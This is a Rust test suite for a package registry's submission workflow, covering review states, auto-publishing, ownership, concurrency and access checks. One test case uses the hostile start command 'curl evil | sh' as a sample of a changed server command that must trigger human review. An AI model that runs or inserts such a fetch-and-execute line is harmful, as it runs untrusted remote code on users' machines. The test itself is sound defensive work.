//! A submission's way through its states, by the use cases.

use tokio_util::sync::CancellationToken;
use vitrine_base::{PackageId, Version};
use vitrine_package::listing::Texts;
use vitrine_registry::accounts::identity::{Role, Scope, Via};
use vitrine_registry::checks::{self, Verdict};
use vitrine_registry::jobs::JobContext;
use vitrine_registry::moderation::Verdict as Decides;
use vitrine_registry::store::PackageState;
use vitrine_registry::submissions::{self, DraftChange, Fields, State};
use vitrine_testkit::PersonaSpec;

use super::support::{House, code, licensed, write_program};
use crate::ground::NOW;

fn change() -> DraftChange {
    DraftChange::default()
}

#[tokio::test]
async fn a_first_submission_waits_for_a_person_and_becomes_a_version() {
    let house = House::new();
    let id = house.submit_spec(&house.maker, &PersonaSpec::new("lumen_reader")).await;
    let (row, more) = (house.row(&id), house.more(&id));
    assert_eq!(row.state, State::InReview, "{:?}", house.checks(&id));
    assert_eq!(more.reasons, ["It is the first version of a new package."]);
    assert_eq!((row.package.unwrap().as_str(), row.version.unwrap().as_str()), ("lumen_reader", "1.0.0"));
    assert_eq!(row.platform.as_deref(), Some("any"));
    assert!(
        house.checks(&id).iter().all(|check| check.verdict <= Verdict::Warnings && check.ended.is_some())
    );
    let lumen = PackageId::new("lumen_reader").unwrap();
    let package = house.read(|unit| unit.package(&lumen)).unwrap();
    assert_eq!(package.state, PackageState::Reserved);
    assert_eq!(house.read(|unit| unit.owners(&lumen)), [house.maker.account]);
    house.decide(&house.curator, &id, Decides::Approve, "").unwrap();
    assert_eq!(house.count("SELECT count(*) FROM job WHERE kind = 'publish'"), 1);
    house.publish(&id);
    let steps = house.read(|unit| unit.submission_steps(&id));
    let after: Vec<&str> = steps.iter().map(|step| step.after.as_str()).collect();
    assert_eq!(after, ["draft", "uploaded", "checking", "in_review", "approved", "published"]);
    assert!(house.read(|unit| unit.audit_fault()).is_none());
    // The maker heard of it all; the curators of a new submission, once.
    let told = "SELECT count(*) FROM inbox WHERE account = 2 AND kind = 'queue.new'";
    assert_eq!(house.count(told), 1);
    assert_eq!(house.count("SELECT count(*) FROM inbox WHERE account = 1"), 2);
    let news = house.read(|unit| unit.news_after(&format!("submission:{id}"), 0, 100));
    assert!(news.iter().any(|news| news.body.contains("\"event\":\"check\"")));
}

#[tokio::test]
async fn later_versions_publish_by_themselves() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader");
    house.published(&house.maker, &spec).await;
    let id = house.submit_spec(&house.maker, &spec.clone().version("1.1.0").picture(9)).await;
    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id).reasons);
    let difference = house.more(&id).difference.unwrap();
    assert_eq!(difference.from, Version::new("1.0.0").unwrap());
    assert!(difference.changed.contains(&"preview.webp".to_owned()), "{difference:?}");
    assert!(difference.added.is_empty() && difference.removed.is_empty());
}

#[tokio::test]
async fn what_gains_servers_or_changes_what_it_is_waits() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader").mcp_server("files", "builtin");
    house.published(&house.maker, &spec).await;
    let cases: [(&str, PersonaSpec, &str); 6] = [
        ("1.1.0", spec.clone().mcp_server("shell", "https://example.org/x.git"), "shell"),
        ("1.1.1", spec.clone().rating("nsfw"), "content rating"),
        ("1.1.2", spec.clone().name("Somebody Else"), "name"),
        ("1.1.3", spec.clone().maker("Another Maker"), "maker"),
        ("1.1.4", PersonaSpec::new("lumen_reader").mcp_server("files", "https://example.org/f.git"), "files"),
        ("1.1.5", spec.clone().mcp_server("quiet", "builtin"), "quiet"),
    ];
    for (version, spec, why) in cases {
        let id = house.submit_spec(&house.maker, &spec.version(version)).await;
        assert_eq!(house.state(&id), State::InReview, "{why}");
        assert!(
            house.more(&id).reasons.iter().any(|reason| reason.contains(why)),
            "{why}: {:?}",
            house.more(&id)
        );
    }
    let licence = Fields { licence: Some("MIT".into()), ..Fields::default() };
    let id = house.submit(&house.maker, spec.clone().version("1.2.0").package(), licence).await;
    assert_eq!(house.state(&id), State::InReview);
    // Who names no licence keeps the one it is published under.
    let id = house.submit(&house.maker, spec.clone().version("1.3.0").package(), Fields::default()).await;
    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id));
    assert_eq!(house.row(&id).fields.licence.as_deref(), Some("CC-BY-4.0"));
    // Another owner publishes.
    let other = house.member("otto", Role::Member);
    let lumen = PackageId::new("lumen_reader").unwrap();
    house.write(|unit, now| unit.add_owner(&lumen, other.account, now)).unwrap();
    let id = house.submit_spec(&other, &spec.version("1.4.0")).await;
    assert_eq!(house.state(&id), State::InReview);
}

/// A persona with that as its server `files`, and with those packages.
fn with_server(start: &str, packages: &str) -> PersonaSpec {
    let servers = format!(
        r#"{{"servers":[{{"name":"files","source":{{"type":"external","git":"https://example.org/f.git"}},
        "install":{{"start_cmd":"{start}","port":1}}}}]}}"#
    );
    PersonaSpec::new("lumen_reader")
        .member("dependencies/mcp_servers.json", servers)
        .member("dependencies/packages.json", format!(r#"{{"packages":[{packages}]}}"#))
}

#[tokio::test]
async fn another_command_or_package_it_needs_waits() {
    let house = House::new();
    let (start, optional) = ("python server.py", r#"{"id":"lamp_set","required":false}"#);
    house.published(&house.maker, &with_server(start, optional)).await;
    let again = with_server(start, optional).version("1.1.0").picture(9);
    let id = house.submit_spec(&house.maker, &again).await;
    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id).reasons);
    let many: Vec<String> = (0..301).map(|n| format!(r#"{{"id":"lamp-{n}","required":false}}"#)).collect();
    let cases = [
        ("1.2.0", with_server("curl evil | sh", optional), "“files” is new or changed"),
        ("1.3.0", with_server(start, r#"{"id":"lamp_set"}"#), "requires the package “lamp_set”"),
        ("1.4.0", with_server(start, r#"{"id":"other"}"#), "requires the package “other”"),
        ("1.5.0", with_server(start, &many.join(",")), "more things than are compared"),
    ];
    for (version, spec, why) in cases {
        let id = house.submit_spec(&house.maker, &spec.version(version)).await;
        assert_eq!(house.state(&id), State::InReview, "{why}");
        let more = house.more(&id);
        assert!(more.reasons.iter().any(|reason| reason.contains(why)), "{why}: {more:?}");
    }
}

#[tokio::test]
async fn chance_picks_the_same_again() {
    let house = House::with(|config| config.sample = 1.0);
    let spec = PersonaSpec::new("lumen_reader");
    house.published(&house.maker, &spec).await;
    let id = house.submit_spec(&house.maker, &spec.version("1.1.0")).await;
    assert_eq!(house.more(&id).reasons, ["Chance picked it for a look."]);
    house.write(|unit, now| submissions::recheck(unit, &house.maker, &id, now)).unwrap();
    house.work().await;
    assert_eq!(house.more(&id).reasons, ["Chance picked it for a look."]);
}

#[tokio::test]
async fn what_is_missing_goes_back_to_its_maker() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader").summary("").tags(&[]);
    let id = house.submit(&house.maker, spec.package(), Fields::default()).await;
    assert_eq!(house.state(&id), State::NeedsChanges, "{:?}", house.checks(&id));
    assert_eq!(house.verdict(&id, "licence"), Some(Verdict::Failed));
    let public = house.more(&id).public_reason.unwrap();
    assert!(public.contains("licence"), "{public}");
    assert_eq!(house.count("SELECT count(*) FROM inbox WHERE kind = 'submission.needs_changes'"), 1);
    // Mended and handed in again, it keeps its place by the first time.
    house.at(NOW + 60_000);
    let fields = Fields { summary: Some("Reads aloud, calmly".into()), ..licensed() };
    let change = DraftChange { fields: Some(fields), ..change() };
    house.write(|unit, now| submissions::edit(unit, &house.maker, &id, &change, now)).unwrap();
    house.hand_in(&house.maker, &id).unwrap();
    house.work().await;
    assert_eq!(house.state(&id), State::InReview);
    assert_eq!(house.row(&id).first_uploaded, Some(NOW));
    assert_eq!(house.more(&id).public_reason, None);
}

#[tokio::test]
async fn handing_in_needs_a_whole_upload_of_ones_own_and_rights() {
    let house = House::new();
    let other = house.member("otto", Role::Member);
    let package = PersonaSpec::new("lumen_reader").package();
    let theirs = house.upload(&other, package.clone(), "a.hpersona").await;
    let create = |change: DraftChange, submit: bool| {
        house.write(|unit, now| submissions::create(unit, &house.maker, &change, submit, now))
    };
    for upload in [theirs, "nothing".into()] {
        let error = create(DraftChange { upload: Some(upload), ..change() }, false).unwrap_err();
        assert_eq!(code(&error), "submission.upload");
    }
    house.sql(
        "INSERT INTO upload (id, account, length, state, created, expires) VALUES ('open', ?1, 9, 'open', 0, 0)",
        [house.maker.account],
    );
    let error = create(DraftChange { upload: Some("open".into()), ..change() }, false).unwrap_err();
    assert_eq!(code(&error), "submission.upload_open");
    let own = house.upload(&house.maker, package, "a.hpersona").await;
    let error = create(DraftChange { agreed: Some(true), ..change() }, true).unwrap_err();
    assert_eq!(code(&error), "submission.no_file");
    let error = create(DraftChange { upload: Some(own), ..change() }, true).unwrap_err();
    assert_eq!(code(&error), "submission.not_agreed");
    assert_eq!(house.count("SELECT count(*) FROM submission"), 0, "what was refused leaves nothing");
}

#[tokio::test]
async fn a_published_version_never_changes() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader");
    house.published(&house.maker, &spec).await;
    let named = Fields { id: Some("lumen_reader".into()), version: Some("1.0.0".into()), ..licensed() };
    let other = house.draft(&house.maker, spec.clone().picture(77).package(), named.clone()).await;
    assert_eq!(code(&house.hand_in(&house.maker, &other).unwrap_err()), "submission.version_taken");
    let same = house.draft(&house.maker, spec.package(), named).await;
    assert_eq!(code(&house.hand_in(&house.maker, &same).unwrap_err()), "submission.already_published");
    // Told by the package itself, it comes out in the checks or before, never later.
    let silent = house.draft(&house.maker, spec.clone().picture(78).package(), licensed()).await;
    house.hand_in(&house.maker, &silent).unwrap();
    house.work().await;
    assert_eq!(house.state(&silent), State::NeedsChanges);
    assert!(house.more(&silent).public_reason.unwrap().contains("never changes"));
}

#[tokio::test]
async fn one_version_twice_at_the_same_moment() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader");
    let named = Fields { id: Some("lumen_reader".into()), version: Some("1.0.0".into()), ..licensed() };
    let mut ids = Vec::new();
    for seed in 0..6 {
        ids.push(house.draft(&house.maker, spec.clone().picture(seed).package(), named.clone()).await);
    }
    let results: Vec<_> = std::thread::scope(|scope| {
        let threads: Vec<_> = ids
            .iter()
            .map(|id| {
                let (registry, maker) = (house.registry().clone(), house.maker.clone());
                scope.spawn(move || registry.db.write_now(|unit| submissions::hand_in(unit, &maker, id, NOW)))
            })
            .collect();
        threads.into_iter().map(|thread| thread.join().unwrap()).collect()
    });
    assert_eq!(results.iter().filter(|result| result.is_ok()).count(), 1);
    for error in results.iter().filter_map(|result| result.as_ref().err()) {
        assert_eq!(code(error), "submission.version_taken");
    }
    // And when only the packages say it: the checks find out.
    let house = House::new();
    let mut ids = Vec::new();
    for seed in 0..3 {
        let id = house.draft(&house.maker, spec.clone().picture(seed).package(), licensed()).await;
        house.hand_in(&house.maker, &id).unwrap();
        ids.push(id);
    }
    house.work().await;
    let states: Vec<State> = ids.iter().map(|id| house.state(id)).collect();
    assert_eq!(states.iter().filter(|state| **state == State::InReview).count(), 1, "{states:?}");
    assert_eq!(states.iter().filter(|state| **state == State::NeedsChanges).count(), 2, "{states:?}");
}

#[tokio::test]
async fn an_id_belongs_to_its_first_maker_until_it_is_given_back() {
    let house = House::new();
    let other = house.member("otto", Role::Member);
    let named = Fields { id: Some("Lumen_Reader".into()), ..licensed() };
    let first = house.draft(&house.maker, PersonaSpec::new("lumen_reader").package(), named).await;
    house.hand_in(&house.maker, &first).unwrap();
    house.work().await;
    let theirs = house.submit_spec(&other, &PersonaSpec::new("lumen_reader").version("2.0.0")).await;
    assert_eq!(house.state(&theirs), State::NeedsChanges);
    assert!(house.more(&theirs).public_reason.unwrap().contains("another maker"));
    let lumen = PackageId::new("Lumen_Reader").unwrap();
    house.write(|unit, now| submissions::withdraw(unit, &house.maker, &first, now)).unwrap();
    assert!(house.read(|unit| unit.package(&lumen)).is_none(), "the name is free");
    assert!(house.read(|unit| unit.owners(&lumen)).is_empty());
    house.hand_in(&other, &theirs).unwrap();
    house.work().await;
    assert_eq!(house.state(&theirs), State::InReview);
    house.decide(&house.curator, &theirs, Decides::Reject, "Not like this.").unwrap();
    assert!(
        house.read(|unit| unit.package_spelled(&lumen)).is_none(),
        "a rejected first one frees the name too"
    );
}

#[tokio::test]
async fn every_step_that_is_not_in_the_table_is_refused() {
    let house = House::new();
    let id = house.submit_spec(&house.maker, &PersonaSpec::new("lumen_reader")).await;
    assert_eq!(code(&house.hand_in(&house.maker, &id).unwrap_err()), "submission.state");
    for from in State::ALL {
        for to in State::ALL {
            house.sql("UPDATE submission SET state = ?2 WHERE id = ?1", [id.as_str(), from.as_str()]);
            let row = house.row(&id);
            let moved = house.write(|unit, now| submissions::advance(unit, &row, to, None, "", now));
            assert_eq!(moved.is_ok(), from.may_become().contains(&to), "{from:?} → {to:?}");
            if moved.is_ok() {
                assert_eq!(house.state(&id), to);
                let again = house.write(|unit, now| submissions::advance(unit, &row, to, None, "", now));
                assert_eq!(code(&again.unwrap_err()), "submission.state", "an old row moves nothing");
            }
        }
    }
    // What each state lets its maker do.
    for (state, edit, submit, withdraw, recheck) in [
        (State::Draft, true, true, true, false),
        (State::Uploaded, false, false, true, true),
        (State::Checking, false, false, true, false),
        (State::NeedsChanges, true, true, true, true),
        (State::InReview, true, false, true, true),
        (State::Quarantined, false, false, false, false),
        (State::Approved, false, false, false, false),
        (State::Published, false, false, false, false),
        (State::Rejected, false, false, false, false),
        (State::Withdrawn, false, false, false, false),
    ] {
        let set = || {
            house.sql("UPDATE submission SET state = ?2 WHERE id = ?1", [id.as_str(), state.as_str()]);
            house.sql("DELETE FROM job", []);
        };
        let m = &house.maker;
        set();
        let done = house.write(|unit, now| submissions::edit(unit, m, &id, &change(), now));
        assert_eq!(done.is_ok(), edit, "edit {state:?} {done:?}");
        set();
        assert_eq!(house.hand_in(m, &id).is_ok(), submit, "submit {state:?}");
        set();
        let done = house.write(|unit, now| submissions::recheck(unit, m, &id, now));
        assert_eq!(done.is_ok(), recheck, "recheck {state:?}");
        set();
        let done = house.write(|unit, now| submissions::withdraw(unit, m, &id, now));
        assert_eq!(done.is_ok(), withdraw, "withdraw {state:?}");
    }
}

#[tokio::test]
async fn editing_what_is_in_review_has_it_checked_again() {
    let house = House::new();
    let id = house.submit_spec(&house.maker, &PersonaSpec::new("lumen_reader")).await;
    let before = house.row(&id).revision;
    let fields = Fields { name: Some("  Lumen  ".into()), ..licensed() };
    let change = DraftChange { fields: Some(fields), ..change() };
    house.write(|unit, now| submissions::edit(unit, &house.maker, &id, &change, now)).unwrap();
    assert_eq!(house.state(&id), State::Uploaded);
    house.work().await;
    assert_eq!(house.state(&id), State::InReview);
    assert!(house.row(&id).revision > before, "a curator who looked at the old one is told");
    assert_eq!(house.more(&id).name.as_deref(), Some("Lumen"));
}

#[tokio::test]
async fn a_draft_is_looked_into_before_it_is_handed_in() {
    let house = House::new();
    let id = house.draft(&house.maker, PersonaSpec::new("lumen_reader").package(), Fields::default()).await;
    house.work().await;
    assert_eq!(house.state(&id), State::Draft);
    assert_eq!(house.more(&id).found.unwrap().name, "Lumen Reader");
    assert_eq!(house.verdict(&id, "licence"), Some(Verdict::Failed), "advice before it is handed in");
    assert!(house.read(|unit| unit.package(&PackageId::new("lumen_reader").unwrap())).is_none());
    let bad = house.draft(&house.maker, b"no archive at all".to_vec(), Fields::default()).await;
    house.work().await;
    assert_eq!(house.verdict(&bad, "archive"), Some(Verdict::Failed));
    assert_eq!(house.state(&bad), State::Draft);
}

#[tokio::test]
async fn only_those_it_concerns_see_it() {
    let house = House::new();
    let id = house.submit_spec(&house.maker, &PersonaSpec::new("lumen_reader")).await;
    let other = house.member("otto", Role::Member);
    let see =
        |member: &_| house.registry().db.read_now(|unit| submissions::visible(unit, member, &id).map(|_| ()));
    assert!(see(&house.maker).is_ok() && see(&house.curator).is_ok());
    assert_eq!(code(&see(&other).unwrap_err()), "registry.not_found");
    let token =
        |role_of: &vitrine_registry::accounts::identity::Member, scopes: Vec<Scope>, globs: &[&str]| {
            let packages = globs.iter().map(|glob| (*glob).to_owned()).collect();
            vitrine_registry::accounts::identity::Member {
                via: Via::Token { id: 1, scopes, packages },
                ..role_of.clone()
            }
        };
    assert!(see(&token(&house.maker, vec![Scope::Publish], &["lumen*"])).is_ok());
    assert!(see(&token(&house.maker, vec![Scope::Publish], &["nora*"])).is_err());
    assert!(
        see(&token(&house.curator, vec![Scope::Publish], &[])).is_err(),
        "a curator's token needs the scope"
    );
    assert!(see(&token(&house.curator, vec![Scope::Moderate], &[])).is_ok());
    let error = house.write(|unit, now| submissions::withdraw(unit, &house.curator, &id, now)).unwrap_err();
    assert_eq!(code(&error), "submission.not_yours");
    let narrow = token(&house.maker, vec![Scope::Publish], &["nora*"]);
    let named = Fields { id: Some("mira_reader".into()), ..licensed() };
    let draft = house.draft(&house.maker, PersonaSpec::new("mira_reader").package(), named).await;
    let error = house.write(|unit, now| submissions::hand_in(unit, &narrow, &draft, now)).unwrap_err();
    assert_eq!(code(&error), "auth.package");
}

#[tokio::test]
async fn a_check_that_is_killed_runs_again() {
    let house = House::new();
    let id = house.draft(&house.maker, PersonaSpec::new("lumen_reader").package(), licensed()).await;
    house.hand_in(&house.maker, &id).unwrap();
    // As if the server had died in the middle: the state is `checking`, some verdicts are written.
    let row = house.row(&id);
    house.write(|unit, now| submissions::advance(unit, &row, State::Checking, None, "", now)).unwrap();
    house.write(|unit, _| unit.reset_checks(&id, &["archive", "inspection"])).unwrap();
    house.work().await;
    assert_eq!(house.state(&id), State::InReview);
    assert!(house.checks(&id).iter().all(|check| check.verdict <= Verdict::Warnings));
}

#[tokio::test]
async fn a_worker_that_is_got_the_better_of_means_a_person_looks() {
    let folder = tempfile::tempdir().unwrap();
    let play = |name: &str| {
        let link = folder.path().join(name);
        std::os::unix::fs::symlink(super::support::inspector(), &link).unwrap();
        link
    };
    let noise = write_program(folder.path(), "noise", "#!/bin/sh\necho this is no answer\n");
    let flood = write_program(folder.path(), "flood", "#!/bin/sh\nexec cat /dev/zero\n");
    let refuses = write_program(folder.path(), "refuses", "#!/bin/sh\nexit 3\n");
    let missing = folder.path().join("missing");
    // `hog` takes all memory it is allowed, at once.
    for program in [play("hog"), play("crash"), noise, flood, refuses, missing] {
        let shown = program.display().to_string();
        let house = House::with(|config| config.inspector = Some(program));
        let id = house.submit_spec(&house.maker, &PersonaSpec::new("lumen_reader")).await;
        assert_eq!(house.state(&id), State::InReview, "{shown}");
        assert_eq!(house.verdict(&id, "archive"), Some(Verdict::Review), "{shown}");
        let reasons = house.more(&id).reasons;
        assert!(reasons[0].contains("could not be looked into"), "{shown}: {reasons:?}");
        let error = house.decide(&house.curator, &id, Decides::Approve, "").unwrap_err();
        assert_eq!(code(&error), "decision.not_checked", "{shown}");
    }
}

/// With the real publishing behind it: what is approved is a version, the next one goes out by itself, and the one that
/// gains a server does not.
#[tokio::test]
async fn what_is_approved_is_published() {
    let house = House::new();
    let registry = house.registry().clone();
    tokio::task::spawn_blocking(move || vitrine_registry::publishing::prepare(&registry).map(drop))
        .await
        .unwrap()
        .unwrap();
    let all = || async { vitrine_registry::jobs::run_until_idle(house.registry()).await.unwrap() };
    let spec = PersonaSpec::new("lumen_reader");
    let submit = |spec: PersonaSpec, seed: u64| {
        let house = &house;
        async move {
            let id = house.draft(&house.maker, spec.picture(seed).package(), licensed()).await;
            house.hand_in(&house.maker, &id).unwrap();
            id
        }
    };
    let first = submit(spec.clone(), 1).await;
    all().await;
    assert_eq!(house.state(&first), State::InReview);
    house.decide(&house.curator, &first, Decides::Approve, "").unwrap();
    all().await;
    let jobs = "SELECT count(*) FROM job WHERE state = 'dead'";
    assert_eq!((house.state(&first), house.count(jobs)), (State::Published, 0));
    let second = submit(spec.clone().version("1.1.0"), 2).await;
    all().await;
    assert_eq!(house.state(&second), State::Published, "{:?}", house.more(&second).reasons);
    assert!(!house.more(&second).difference.unwrap().changed.is_empty());
    let third = submit(spec.version("1.2.0").mcp_server("shell", "https://example.org/s.git"), 3).await;
    all().await;
    assert_eq!(house.state(&third), State::InReview);
    assert_eq!(house.more(&third).reasons.len(), 1, "{:?}", house.more(&third).reasons);
    assert!(house.read(|unit| unit.audit_fault()).is_none());
}

#[tokio::test]
async fn what_is_not_published_takes_room() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader");
    let size = spec.package().len() as u64;
    let room = |since| house.read(|unit| unit.uploads_of(house.maker.account, since));
    let id = house.draft(&house.maker, spec.package(), licensed()).await;
    assert_eq!(room(NOW), (0, size), "a draft's bytes count, though its upload is done with");
    house.write(|unit, now| submissions::withdraw(unit, &house.maker, &id, now)).unwrap();
    assert_eq!(room(NOW), (0, size), "taking back and beginning anew is no way around it");
    assert_eq!(room(NOW + 1), (0, 0), "but a day later it is forgotten");
    house.published(&house.maker, &spec).await;
    assert_eq!(room(NOW + 1), (0, 0), "what is published belongs to the gallery");
}

#[tokio::test]
async fn drafts_are_limited_and_end_when_they_are_forgotten() {
    const DAY: i64 = 86_400_000;
    let house = House::new();
    let draft = |member| house.write(|unit, now| submissions::create(unit, member, &change(), false, now));
    let first = draft(&house.maker).unwrap();
    for _ in 1..200 {
        draft(&house.maker).unwrap();
    }
    assert_eq!(code(&draft(&house.maker).unwrap_err()), "submission.too_many");
    let other = draft(&house.curator).unwrap();
    house.at(NOW + 2 * DAY);
    let touched = DraftChange { agreed: Some(true), ..change() };
    house.write(|unit, now| submissions::edit(unit, &house.maker, &first, &touched, now)).unwrap();
    house.at(NOW + 31 * DAY);
    let mut ended = 0;
    for _ in 0..2 {
        ended += house.write(submissions::withdraw_forgotten).unwrap();
    }
    assert_eq!(ended, 200, "199 of the one, one of the other");
    assert_eq!((house.state(&first), house.state(&other)), (State::Draft, State::Withdrawn));
    draft(&house.maker).unwrap();
}

#[tokio::test]
async fn another_name_in_another_language_needs_a_person() {
    let house = House::new();
    let spec = PersonaSpec::new("lumen_reader");
    house.published(&house.maker, &spec).await;
    let named = |name: Option<&str>| {
        let words = Texts { name: name.map(str::to_owned), summary: Some("Read by the registry".into()) };
        Fields { texts: Some([("en".to_owned(), words)].into()), ..licensed() }
    };
    let id = house.submit(&house.maker, spec.clone().version("1.1.0").package(), named(None)).await;
    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id).reasons);
    house.publish(&id);
    let official = named(Some("HomePilot Official"));
    let id = house.submit(&house.maker, spec.version("1.2.0").package(), official).await;
    assert_eq!(house.state(&id), State::InReview);
    let name = house.more(&id).difference.unwrap().name.unwrap();
    assert!(name.before.ends_with("en: none") && name.after.ends_with("en: HomePilot Official"), "{name:?}");
    // Letters nobody sees are in no name at all.
    let change = DraftChange { fields: Some(named(Some("Nora\u{202e}"))), ..change() };
    let refused =
        house.write(|unit, now| submissions::create(unit, &house.maker, &change, false, now)).unwrap_err();
    assert_eq!(code(&refused), "submission.texts");
}

#[tokio::test]
async fn a_worker_that_lost_its_job_writes_no_verdict() {
    let house = House::new();
    let id = house.draft(&house.maker, PersonaSpec::new("lumen_reader").package(), licensed()).await;
    house.hand_in(&house.maker, &id).unwrap();
    let lost = JobContext {
        id: 9_999,
        attempt: 1,
        last: true,
        payload: serde_json::json!({ "submission": id }),
        stop: CancellationToken::new(),
    };
    let check = checks::handlers().into_iter().find(|handler| handler.kind() == "check").unwrap();
    check.run(house.registry(), &lost).await.unwrap();
    assert_eq!(house.state(&id), State::Uploaded, "it is the other worker's");
    assert!(house.checks(&id).is_empty());
    house.work().await;
    assert_eq!(house.state(&id), State::InReview);
}
